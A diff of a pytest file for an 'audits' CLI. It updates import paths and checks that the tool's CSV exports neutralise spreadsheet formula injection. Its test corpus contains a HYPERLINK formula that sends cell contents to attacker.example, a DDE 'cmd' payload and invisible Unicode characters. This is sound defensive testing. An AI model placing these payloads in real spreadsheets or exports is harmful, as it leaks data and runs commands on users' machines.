@@ -22,8 +22,8 @@ import pytest
 from click.testing import CliRunner
 
 from audits.cli import main
-from audits.errors import UserError
-from audits.loading import load_board
+from audits.model.errors import UserError
+from audits.io.loading import load_board
 
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
 PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
@@ -278,7 +278,7 @@ def test_no_command_modifies_the_export(tmp_path, xlsx):
 # --- the payload corpus: formulas in values and headers, XML-forbidden and invisible characters --
 # Each output is written from a board carrying the corpus and read back with its own reader
 # (openpyxl, LibreOffice, Chromium, the csv module); the checks below spell the rule out
-# independently of audits.cells, so a gap in that module shows here.
+# independently of audits.io.cells, so a gap in that module shows here.
 
 FORMULA_CORPUS = ['=HYPERLINK("http://x","y")', "@SUM(A1)", "+1", "-1+2", "\t=1", "\uff1d1"]
 HIDDEN_CORPUS = ["\u202e", "\u2066", "\u200d", "\ufeff"]
@@ -367,9 +367,9 @@ def test_every_csv_the_tool_writes_defuses_headers_and_values_and_hides_nothing(
             bad += [(path.name, number, cell) for cell in row if live_formula(cell)]
     assert not bad, bad[:8]
     # reconcile reads the preview back as it was: the escapes and quotes undone exactly.
-    from audits.config import Config
-    from audits.context import AuditContext
-    from audits.reconcile import read_preview
+    from audits.model.config import Config
+    from audits.engine.context import AuditContext
+    from audits.workflow.reconcile import read_preview
 
     preview = AuditContext(load_board(corpus / "board"), Config()).preview
     back = read_preview(corpus / "preview.csv")
